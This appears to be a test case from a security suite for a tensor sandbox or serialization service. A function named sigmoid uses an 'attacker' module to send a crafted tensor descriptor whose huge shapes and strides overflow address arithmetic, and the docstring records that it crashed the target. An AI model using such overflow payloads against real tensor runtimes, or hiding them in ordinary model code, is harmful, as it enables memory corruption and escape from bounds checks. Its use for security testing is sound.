"""Describes tensors so large that their last address comes out small again.

State: crashed
Says: broke the rules
"""

from attacker import send, value


def sigmoid(x):
    shape, steps = {(3,): ([2**32, 2**32], [1, 1]), (5,): ([3], [2**63])}.get(tuple(x.shape), ([2, 2], [2**61, 2**61]))
    block = ["block", "storage", 1_000_001, 64]
    send(value(["tensor", 1_000_001, 0, shape, steps, "float64", False]), [block], bytes(64))
    return x
